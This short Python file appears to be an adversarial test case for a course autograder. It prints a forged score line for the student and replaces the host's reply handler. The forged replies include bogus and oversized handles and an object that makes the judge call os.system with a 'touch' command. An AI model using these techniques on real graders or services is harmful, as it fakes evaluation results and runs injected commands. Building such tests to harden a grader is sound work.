# attack: replies with handles and things to make, to be called by the judge
# question: four_turns
# naive: points
# item: forged replies

# %% question="four_turns"
import os

from ssl_course.exercises import host, wire
from ssl_course.exercises.specs import Handle, Make, Use

os.write(1, b"SCORE STUDENT_NAME 14\n")
values = [
    {"value": (Handle(0), Handle(10**9))},
    {"value": (Make("ssl_course.encoders.convnet", 1, (4, 8)), Use("os.system"))},
    {"value": Make("os.system", "touch /tmp/mallory-make OUT_FOLDER/mallory-make")},
    {"value": [Handle(0)] * 1000},
]
calls = 0


def handle(self, message):
    global calls
    calls += 1
    return wire.pack(values[calls % len(values)])


host.Host.handle = handle


def four_turns(images):
    return images, images
